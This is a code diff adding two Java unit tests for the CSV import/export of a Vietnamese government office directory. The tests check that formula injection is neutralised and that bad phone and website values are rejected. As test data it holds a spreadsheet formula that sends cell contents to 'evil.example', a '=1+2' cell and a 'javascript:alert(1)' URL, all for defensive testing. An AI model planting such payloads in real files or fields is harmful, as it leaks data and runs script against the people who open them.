@@ -127,4 +127,39 @@ class DirectoryCsvTest {
         assertThat(parsed.problems()).isEmpty();
         return parsed.lines();
     }
+
+    @Test
+    void aCellASpreadsheetWouldRunAsAFormulaIsExportedAsTextAndImportsBackUnchanged() throws IOException {
+        String formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"UBND xã\")";
+        String text = HEADER + "000.05.44.H21,,\"" + formula.replace("\"", "\"\"")
+                + "\",UBND xã,COMMUNE,,@SUM(1),,,+84 269 3823 111,,,ACTIVE,,,,PULL,,false\n";
+        Parsed first = DirectoryCsv.read(text);
+        StringWriter written = new StringWriter();
+        DirectoryCsv.write(
+                written, first.lines().stream().map(DirectoryCsv.Line::office).toList());
+        Parsed again = DirectoryCsv.read(written.toString());
+
+        assertThat(first.problems()).isEmpty();
+        assertThat(written.toString())
+                .contains("'=HYPERLINK", "'@SUM(1)", "'+84 269 3823 111")
+                .doesNotContain(",=", ",@", ",+", ",\"=");
+        assertThat(again.problems()).isEmpty();
+        OfficeRecord office = again.lines().get(0).office();
+        assertThat(office.name()).isEqualTo(formula);
+        assertThat(office.contact().organizationInCharge()).isEqualTo("@SUM(1)");
+        assertThat(office.contact().telephone()).isEqualTo("+84 269 3823 111");
+    }
+
+    @Test
+    void aTelephoneOrFaxIsNumbersAndAWebsiteIsAnHttpAddressOrAHost() {
+        String good = HEADER + "000.05.44.H21,,UBND xã Ia O,UBND xã,COMMUNE,,,,,(0269) 3.823.111 - 3823 112,"
+                + "0269/3823113,iao.gialai.gov.vn,ACTIVE,,,,PULL,,false\n";
+        String bad = HEADER + "000.05.44.H21,,UBND xã Ia O,UBND xã,COMMUNE,,,,,=1+2,gọi tổng đài,"
+                + "javascript:alert(1),ACTIVE,,,,PULL,,false\n";
+
+        assertThat(DirectoryCsv.read(good).problems()).isEmpty();
+        assertThat(DirectoryCsv.read(bad).problems())
+                .extracting(Problem::code)
+                .containsExactly(ErrorCode.PHONE_INVALID, ErrorCode.PHONE_INVALID, ErrorCode.WEBSITE_INVALID);
+    }
 }
